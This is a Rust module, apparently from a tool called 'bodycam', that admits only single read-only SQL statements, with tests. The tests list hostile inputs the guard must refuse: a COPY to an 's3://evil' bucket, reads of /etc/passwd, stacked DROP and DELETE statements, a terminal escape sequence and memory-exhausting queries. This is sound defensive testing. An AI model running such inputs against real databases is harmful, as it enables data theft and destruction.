//! What SQL may run: one statement that only reads the lake's tables. The same door serves `bodycam query` and
//! the rules that users write.
//!
//! Invariant: a statement is let through by what it is, never because nothing is known against it: first by
//! its tokens, then by its syntax tree, then by its plan.

use std::ops::ControlFlow;

use bodycam_record::shown;
use datafusion::execution::context::{SQLOptions, SessionContext};
use datafusion::logical_expr::LogicalPlan;
use datafusion::sql::parser::{DFParserBuilder, Statement};
use datafusion::sql::sqlparser::ast::{
    Query, SetExpr, Statement as SqlStatement, TableFactor, Visit, Visitor,
};
use datafusion::sql::sqlparser::dialect::GenericDialect;
use datafusion::sql::sqlparser::tokenizer::{Token, Tokenizer};

use crate::engine::plans;
use crate::error::AnalyzerError;

/// Longest statement, in bytes.
const MAX_BYTES: usize = 128 * 1024;
/// Most operators in a statement. A chain of them is as deep a tree, which planning walks by recursion.
const MAX_OPERATORS: usize = 400;
/// Deepest nesting that the parser follows.
const MAX_DEPTH: usize = 40;
/// Functions that may stand in the place of a table.
const TABLE_FUNCTIONS: [&str; 3] = ["generate_series", "range", "unnest"];

/// The one statement in `sql`, when it only reads.
pub(crate) fn parse(sql: &str) -> Result<Statement, AnalyzerError> {
    let refuse = |reason: String| Err(AnalyzerError::Refused(reason));
    if sql.len() > MAX_BYTES {
        return refuse(format!("the statement has {} bytes, more than {MAX_BYTES}", sql.len()));
    }
    let dialect = GenericDialect {};
    let tokens = Tokenizer::new(&dialect, sql)
        .tokenize_with_location()
        .map_err(|err| AnalyzerError::Refused(format!("not SQL: {}", shown(&err.to_string()))))?;
    let operators = tokens.iter().filter(|t| is_operator(&t.token)).count();
    if operators > MAX_OPERATORS {
        return refuse(format!(
            "the statement has {operators} operators, more than {MAX_OPERATORS}: use IN, or a join with VALUES"
        ));
    }
    let statements = DFParserBuilder::new(tokens)
        .with_dialect(&dialect)
        .with_recursion_limit(MAX_DEPTH)
        .build()
        .and_then(|mut parser| parser.parse_statements())
        .map_err(|err| AnalyzerError::Refused(format!("not SQL: {}", shown(&err.strip_backtrace()))))?;
    let mut statements = statements.into_iter();
    match (statements.next(), statements.next()) {
        (Some(statement), None) => {
            check(&statement)?;
            Ok(statement)
        }
        (None, _) => refuse("there is no statement".to_owned()),
        _ => refuse("only one statement runs at a time".to_owned()),
    }
}

/// As [`parse`], but only a query: neither EXPLAIN nor SHOW.
pub(crate) fn parse_query(sql: &str) -> Result<Statement, AnalyzerError> {
    let statement = parse(sql)?;
    match &statement {
        Statement::Statement(inner) if matches!(**inner, SqlStatement::Query(_)) => Ok(statement),
        _ => Err(AnalyzerError::Refused("the query of a rule must be a SELECT".to_owned())),
    }
}

/// The plan of a statement that was let through; looked at once more before it may run.
pub(crate) async fn plan(
    context: &SessionContext,
    statement: Statement,
    what: &str,
) -> Result<LogicalPlan, AnalyzerError> {
    plans(context, true);
    let plan = context.state().statement_to_plan(statement).await;
    let plan = plan.map_err(|err| AnalyzerError::sql(format!("planning {what}"), err))?;
    SQLOptions::new()
        .with_allow_ddl(false)
        .with_allow_dml(false)
        .with_allow_statements(false)
        .verify_plan(&plan)
        .map_err(|err| AnalyzerError::Refused(shown(&err.strip_backtrace())))?;
    Ok(plan)
}

fn is_operator(token: &Token) -> bool {
    match token {
        Token::Word(word) => {
            let keyword = word.value.to_ascii_uppercase();
            word.quote_style.is_none()
                && matches!(
                    keyword.as_str(),
                    "AND" | "OR" | "NOT" | "LIKE" | "ILIKE" | "IS" | "UNION" | "EXCEPT" | "INTERSECT"
                )
        }
        Token::Number(..)
        | Token::SingleQuotedString(_)
        | Token::Whitespace(_)
        | Token::Comma
        | Token::Period
        | Token::LParen
        | Token::RParen
        | Token::SemiColon
        | Token::Placeholder(_)
        | Token::EOF => false,
        _ => true,
    }
}

fn check(statement: &Statement) -> Result<(), AnalyzerError> {
    match statement {
        Statement::Statement(inner) => check_sql(inner),
        Statement::Explain(explain) => match explain.statement.as_ref() {
            Statement::Statement(inner) if matches!(**inner, SqlStatement::Query(_)) => check_sql(inner),
            _ => Err(AnalyzerError::Refused("EXPLAIN works on queries only".to_owned())),
        },
        Statement::CreateExternalTable(_) | Statement::CopyTo(_) | Statement::Reset(_) => {
            Err(not_a_query(statement))
        }
    }
}

fn check_sql(statement: &SqlStatement) -> Result<(), AnalyzerError> {
    match statement {
        SqlStatement::Query(_) => {}
        SqlStatement::ShowTables { .. }
        | SqlStatement::ShowColumns { .. }
        | SqlStatement::ExplainTable { .. } => {
            return Ok(());
        }
        _ => return Err(not_a_query(statement)),
    }
    match statement.visit(&mut OnlyReads) {
        ControlFlow::Continue(()) => Ok(()),
        ControlFlow::Break(reason) => Err(AnalyzerError::Refused(reason)),
    }
}

fn not_a_query(statement: &impl std::fmt::Display) -> AnalyzerError {
    let text = statement.to_string();
    let word = text.split_whitespace().next().unwrap_or_default().to_ascii_uppercase();
    AnalyzerError::Refused(format!(
        "{} is not a query: SELECT, WITH, VALUES, EXPLAIN, SHOW TABLES and DESCRIBE run here, nothing that \
         writes, configures or reads files",
        shown(&word)
    ))
}

/// Refuses the parts of a query that do more than read tables.
struct OnlyReads;

impl Visitor for OnlyReads {
    type Break = String;

    fn pre_visit_statement(&mut self, statement: &SqlStatement) -> ControlFlow<String> {
        match statement {
            SqlStatement::Query(_) => ControlFlow::Continue(()),
            _ => ControlFlow::Break(not_a_query(statement).to_string()),
        }
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<String> {
        let writes = match query.body.as_ref() {
            SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_) => true,
            SetExpr::Select(select) => select.into.is_some(),
            _ => false,
        };
        match (writes, query.locks.is_empty()) {
            (true, _) => {
                ControlFlow::Break("a query may not write (INTO, INSERT, UPDATE, DELETE, MERGE)".into())
            }
            (_, false) => ControlFlow::Break("a query may not lock rows".into()),
            _ => ControlFlow::Continue(()),
        }
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<String> {
        let function = match factor {
            TableFactor::Table { name, args: Some(_), .. } | TableFactor::Function { name, .. } => {
                name.to_string()
            }
            TableFactor::TableFunction { expr, .. } => expr.to_string(),
            TableFactor::Table { name, args: None, .. } => {
                let parts = || name.0.iter().filter_map(|part| part.as_ident());
                let path = parts().any(|i| i.value.contains(['/', '\\', ':', '*', '.']));
                return match path || parts().count() != name.0.len() {
                    true => ControlFlow::Break(format!(
                        "{} is not a table of the lake; files cannot be read",
                        shown(&name.to_string())
                    )),
                    false => ControlFlow::Continue(()),
                };
            }
            _ => return ControlFlow::Continue(()),
        };
        match TABLE_FUNCTIONS.contains(&function.to_ascii_lowercase().as_str()) {
            true => ControlFlow::Continue(()),
            false => ControlFlow::Break(format!("there is no table function {}", shown(&function))),
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::engine::{Engine, Scope, physical, spawn};

    /// Parses, plans and runs, as the door does.
    async fn attempt(sql: &str) -> Result<usize, AnalyzerError> {
        let sql = sql.to_owned();
        spawn(async move { run(&sql).await }).unwrap().await
    }

    async fn run(sql: &str) -> Result<usize, AnalyzerError> {
        let engine = Engine::without_store().unwrap();
        let context = engine.context(&Scope::memory(BTreeMap::new(), 64 << 20)).unwrap();
        let plan = plan(&context, parse(sql)?, "the query").await?;
        let failed = |err| AnalyzerError::ran(64, "the query", err);
        let physical = physical(&context, &plan).await.map_err(failed)?;
        let batches = datafusion::physical_plan::collect(physical, context.task_ctx()).await;
        Ok(batches.map_err(failed)?.iter().map(|b| b.num_rows()).sum())
    }

    #[tokio::test]
    async fn what_only_reads_runs() {
        for (sql, rows) in [
            ("SELECT 1", 1),
            ("select count(*) from sessions;", 1),
            (
                "WITH a AS (SELECT seq FROM events) SELECT * FROM a WHERE seq IN (SELECT seq FROM statements)",
                0,
            ),
            ("VALUES (1), (2)", 2),
            ("SELECT * FROM generate_series(1, 3)", 3),
            ("SELECT unnest([1, 2])", 2),
            ("EXPLAIN SELECT count(*) FROM results", 2),
            ("DESCRIBE gaps", 22),
            ("SELECT ts - INTERVAL '1 hour' FROM http WHERE host LIKE '%.example.com' -- a comment", 0),
            ("SELECT \"seq\" FROM lake.public.control", 0),
            ("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", 19),
        ] {
            assert_eq!(attempt(sql).await.unwrap(), rows, "{sql}");
        }
        assert!(attempt("SHOW TABLES").await.unwrap() > 17);
    }

    #[tokio::test]
    async fn what_does_more_than_read_is_refused() {
        let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
        let long_chain = format!("SELECT {}1", "1+".repeat(5000));
        let many_ors = format!("SELECT 1 WHERE {}true", "true OR ".repeat(5000));
        let many_unions = format!("SELECT 1 {}", "UNION ALL SELECT 1 ".repeat(5000));
        let signs = format!("SELECT {}1", "- ".repeat(5000));
        let huge = format!("SELECT '{}'", "x".repeat(MAX_BYTES));
        for (sql, expected) in [
            ("", "no statement"),
            (";;", "no statement"),
            ("SELECT 1; SELECT 2", "only one statement"),
            ("SELECT 1; DROP TABLE sessions", "only one statement"),
            ("SELECT 1;; DELETE FROM events", "only one statement"),
            ("CREATE TABLE t AS SELECT 1", "CREATE is not a query"),
            ("CREATE VIEW v AS SELECT 1", "CREATE is not a query"),
            ("CREATE EXTERNAL TABLE t STORED AS CSV LOCATION '/etc/passwd'", "CREATE is not a query"),
            (
                "CREATE UNBOUNDED EXTERNAL TABLE t STORED AS PARQUET LOCATION 's3://b/x'",
                "CREATE is not a query",
            ),
            ("CREATE FUNCTION f() RETURNS INT RETURN 1", "CREATE is not a query"),
            ("CREATE SCHEMA s", "CREATE is not a query"),
            ("CREATE DATABASE d", "CREATE is not a query"),
            ("DROP TABLE sessions", "DROP is not a query"),
            ("DROP VIEW sessions", "DROP is not a query"),
            ("ALTER TABLE events ADD COLUMN x INT", "ALTER is not a query"),
            ("TRUNCATE TABLE events", "TRUNCATE is not a query"),
            ("INSERT INTO findings VALUES (1)", "INSERT is not a query"),
            ("UPDATE findings SET severity = 'info'", "UPDATE is not a query"),
            ("DELETE FROM findings", "DELETE is not a query"),
            ("MERGE INTO findings f USING events e ON true WHEN MATCHED THEN DELETE", "MERGE is not a query"),
            ("COPY events TO '/tmp/events.parquet'", "COPY is not a query"),
            ("COPY (SELECT * FROM content) TO 's3://evil/x.csv'", "COPY is not a query"),
            ("SET datafusion.execution.batch_size = 1", "SET is not a query"),
            ("SET TIME ZONE 'UTC'", "SET is not a query"),
            ("RESET datafusion.execution.batch_size", "RESET is not a query"),
            ("SHOW ALL", "SHOW is not a query"),
            ("SHOW datafusion.execution.batch_size", "SHOW is not a query"),
            ("PREPARE p AS SELECT 1", "PREPARE is not a query"),
            ("EXECUTE p", "EXECUTE is not a query"),
            ("DEALLOCATE p", "DEALLOCATE is not a query"),
            ("BEGIN", "is not a query"),
            ("COMMIT", "COMMIT is not a query"),
            ("EXPLAIN DELETE FROM events", "EXPLAIN works on queries only"),
            ("EXPLAIN ANALYZE INSERT INTO findings VALUES (1)", "EXPLAIN works on queries only"),
            ("EXPLAIN COPY events TO '/tmp/x'", "EXPLAIN works on queries only"),
            ("WITH a AS (INSERT INTO findings VALUES (1)) SELECT 1", "may not write"),
            ("WITH a AS (DELETE FROM findings) SELECT 1", "may not write"),
            ("WITH a AS (UPDATE findings SET rule = 'x') SELECT 1", "may not write"),
            ("SELECT * INTO t FROM events", "may not write"),
            ("SELECT 1 UNION SELECT * FROM (SELECT 1 INTO t) x", "may not write"),
            ("SELECT * FROM events FOR UPDATE", "may not lock"),
            ("SELECT * FROM read_parquet('/etc/passwd')", "no table function"),
            ("SELECT * FROM read_csv('https://evil/x')", "no table function"),
            ("SELECT * FROM glob('*')", "no table function"),
            ("SELECT (SELECT count(*) FROM parquet_metadata('x'))", "no table function"),
            ("SELECT * FROM '/etc/passwd'", "files cannot be read"),
            ("SELECT * FROM 'data.csv'", "files cannot be read"),
            ("SELECT * FROM \"s3://bucket/key.parquet\"", "files cannot be read"),
            ("SELECT * FROM events WHERE seq IN (SELECT a FROM \"../x.json\")", "files cannot be read"),
            ("SELECT pg_read_file('/etc/passwd')", "Invalid function"),
            ("SELECT * FROM sqlite_master", "not found"),
            ("SELECT $1", "failed"),
            ("CALL f()", "CALL is not a query"),
            ("GRANT ALL ON events TO x", "GRANT is not a query"),
            ("INSTALL httpfs", "INSTALL is not a query"),
            ("LOAD httpfs", "LOAD is not a query"),
            ("ATTACH 'x.db' AS x", "ATTACH is not a query"),
            ("PRAGMA foo", "PRAGMA is not a query"),
            ("VACUUM", "is not a query"),
            ("ANALYZE TABLE events", "ANALYZE is not a query"),
            ("SELECT '\u{1b}]52;c;x\u{7}", "not SQL"),
            ("\u{0}", "not SQL"),
            (deep.as_str(), "not SQL"),
            (long_chain.as_str(), "operators"),
            (many_ors.as_str(), "operators"),
            (many_unions.as_str(), "operators"),
            (signs.as_str(), "operators"),
            (huge.as_str(), "bytes"),
        ] {
            let head: String = sql.chars().take(80).collect();
            let message = match attempt(sql).await {
                Ok(rows) => panic!("{head} ran and gave {rows} rows"),
                Err(err) => err.to_string(),
            };
            assert!(message.contains(expected), "{head}: {message}");
            assert!(message.chars().all(|c| !bodycam_record::shown::is_hostile(c)), "{head}: {message:?}");
        }
    }

    #[tokio::test]
    async fn functions_make_no_more_than_the_memory_of_the_statement() {
        for (sql, function) in [
            ("SELECT length(repeat('x', 2000000000))", "repeat"),
            ("SELECT length(repeat('x', value * 100000000)) FROM generate_series(1, 3)", "repeat"),
            ("SELECT repeat(cast(value AS varchar), 1000000000) FROM generate_series(1, 3)", "repeat"),
            ("SELECT repeat('x', 1000000) FROM generate_series(1, 8192)", "repeat"),
            ("SELECT length(repeat(repeat(repeat('x', 2000), 2000), 2000))", "repeat"),
            ("SELECT length(lpad('x', 2000000000))", "lpad"),
            (
                "SELECT length(rpad(cast(value AS varchar), 2000000000, 'y')) FROM generate_series(1, 3)",
                "rpad",
            ),
            ("SELECT sum(array_length(range(0, value * 100000000))) FROM generate_series(1, 3)", "range"),
            ("SELECT array_length(generate_series(1, 1000000000))", "generate_series"),
            (
                "SELECT array_length(generate_series(TIMESTAMP '2020-01-01', TIMESTAMP '2030-01-01', INTERVAL '1' SECOND))",
                "generate_series",
            ),
            ("SELECT array_length(array_repeat('x', 2000000000))", "array_repeat"),
            (
                "SELECT array_length(array_resize([value], 500000000, 7)) FROM generate_series(1, 2)",
                "array_resize",
            ),
            (
                "SELECT length(replace(repeat('x', value), 'x', repeat('y', 10000))) FROM generate_series(100000, 100001)",
                "replace",
            ),
            (
                "SELECT length(replace(repeat('x', value), '', repeat('y', 10000))) FROM generate_series(100000, 100001)",
                "replace",
            ),
            (
                "SELECT length(regexp_replace(repeat('x', value), '.', repeat('y', 10000), 'g')) FROM generate_series(100000, 100001)",
                "regexp_replace",
            ),
            (
                "SELECT length(array_to_string(range(0, value), repeat('y', 10000))) FROM generate_series(100000, 100001)",
                "array_to_string",
            ),
            (
                "WITH a AS (SELECT repeat('x', value) x FROM generate_series(20000000, 20000001))                  SELECT length(concat(x, x, x, x)) FROM a",
                "concat",
            ),
            (
                "WITH a AS (SELECT repeat('x', value) x FROM generate_series(20000000, 20000001))                  SELECT length(x || x || x || x) FROM a",
                "||",
            ),
            (
                "WITH a AS (SELECT range(0, value) x FROM generate_series(1000000, 1000001))                  SELECT array_length(x || x || x || x || x || x || x || x) FROM a",
                "array_concat",
            ),
        ] {
            let message = match attempt(sql).await {
                Ok(rows) => panic!("{sql} ran and gave {rows} rows"),
                Err(err) => err.to_string(),
            };
            assert!(
                message.contains("memory limit of 64 MiB") && message.contains("--memory"),
                "{sql}: {message}"
            );
            assert!(message.contains(&format!("({function} may need ")), "{sql}: {message}");
        }
        for sql in [
            "SELECT length(repeat('x', 10000000))",
            "SELECT lpad(cast(value AS varchar), 20, '0') FROM generate_series(1, 100000)",
            "SELECT sum(array_length(range(0, value))) FROM generate_series(1, 2000)",
            "SELECT upper(lpad('ß', 30)) || '-' || 7, 'a' || NULL, [1] || [2] || 3",
            "SELECT replace(repeat('ab', value), 'a', 'ccc') FROM generate_series(1, 2000)",
            "SELECT unnest(range(TIMESTAMP '2026-01-01', TIMESTAMP '2026-02-01', INTERVAL '1' DAY))",
            "SELECT max(length(repeat('x', value * 1000))) FROM generate_series(1, 100)",
        ] {
            let ran = attempt(sql).await;
            assert!(ran.is_ok(), "{sql}: {ran:?}");
        }
    }

    #[tokio::test]
    async fn a_panic_becomes_an_error_that_repeats_nothing_of_what_it_says() {
        let failed =
            spawn::<()>(async { panic!("\u{1b}[2J secret") }).unwrap().await.unwrap_err().to_string();
        assert!(failed.contains("the engine gave up at guard.rs:"), "{failed}");
        assert!(!failed.contains("secret"), "{failed}");
    }

    #[tokio::test]
    async fn the_longest_chain_that_is_let_through_does_not_exhaust_the_stack() {
        let chain = format!("SELECT {}1", "1+".repeat(MAX_OPERATORS - 1));
        assert_eq!(attempt(&chain).await.unwrap(), 1);
        let ors =
            format!("SELECT seq FROM events WHERE {}seq = 1", "seq = 2 OR ".repeat(MAX_OPERATORS / 2 - 1));
        assert_eq!(attempt(&ors).await.unwrap(), 0);
        let unions = format!("SELECT 1 {}", "UNION ALL SELECT 1 ".repeat(MAX_OPERATORS));
        assert!(attempt(&unions).await.is_ok_and(|rows| rows == MAX_OPERATORS + 1));
    }
}
